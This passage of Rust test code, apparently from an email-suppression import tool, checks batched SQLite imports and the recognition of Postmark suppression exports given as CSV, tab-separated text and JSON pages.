    other.execute_batch("INSERT INTO topic (arn, state) VALUES ('0', 'denied')").expect("staging locks nothing");
    let mut done = Vec::new();
    let plan = import.apply(jiff::Timestamp::now(), |count| {
        done.push(count);
        other.execute_batch(&format!("INSERT INTO topic (arn, state) VALUES ('{count}', 'denied')")).unwrap();
    });
    assert_eq!(plan.unwrap(), [(Fate::New, "added".to_owned(), 60_000)]);
    assert_eq!(done, [25_000, 50_000, 60_000]);
    assert_eq!(home.select("SELECT count(*) FROM suppression"), "60000");
    assert_eq!(home.select("SELECT count(*) FROM topic"), "4");
}

#[test]
fn every_writing_of_a_file_is_read() {
    let csv = "\u{feff}\"Email Address\";\"Suppression Reason\";\"Origin\";\"Created At\"\r\n\
               bob@example.com;HardBounce;Recipient;2019-12-10T08:58:33-05:00\r\n";
    let page = |user: &str| {
        format!(
            "{{\"Suppressions\":[{{\"EmailAddress\":\"{user}@example.com\",\"SuppressionReason\":\"HardBounce\"}}]}}"
        )
    };
    let many: Vec<_> =
        (0..3_000).map(|n| page(&format!("user{n}")).replace("{\"Suppressions\":[", "").replace("]}", "")).collect();
    for (text, count) in [
        (csv.to_owned(), "1"),
        (csv.replace(';', "\t"), "1"),
        // Pages of an API, one after the other.
        (page("a") + &page("b"), "2"),
        (format!("{}\n{}\n", page("a"), page("b")), "2"),
        // In one line, which is longer than what the format is recognised from.
        (format!("{{\"Suppressions\":[{}]}}", many.join(",")), "3000"),
        (format!("[{}]", many.join(",\n")), "3000"),
    ] {
        let home = Home::new();
        let out = imported(&home, &[], &text);
        assert!(out.starts_with("standard input: read as postmark\n"), "{out}");
        assert_eq!(home.select("SELECT count(*) FROM suppression"), count);
    }
    let home = Home::new();
    assert!(imported(&home, &["--format", "postmark"], "{\"Suppressions\":[]}").contains("0 added\n"));
}
